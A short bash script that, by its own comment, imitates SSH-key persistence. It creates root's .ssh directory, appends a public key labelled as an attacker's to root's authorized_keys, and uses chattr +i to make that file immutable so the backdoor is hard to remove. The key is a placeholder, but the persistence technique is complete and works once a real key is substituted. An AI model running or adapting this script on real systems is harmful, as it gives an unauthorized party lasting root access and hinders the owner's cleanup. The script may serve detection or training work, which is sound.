#!/bin/bash
# Imitates SSH-key persistence: adds the attacker's public key (a made-up one) to root's authorized_keys
# and makes the file hard to change.
mkdir -p /root/.ssh
chmod 700 /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIConpusImitationKeyNotARealKeyAtAll0000000 corpus@attacker.test' >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys 2>/dev/null
exit 0
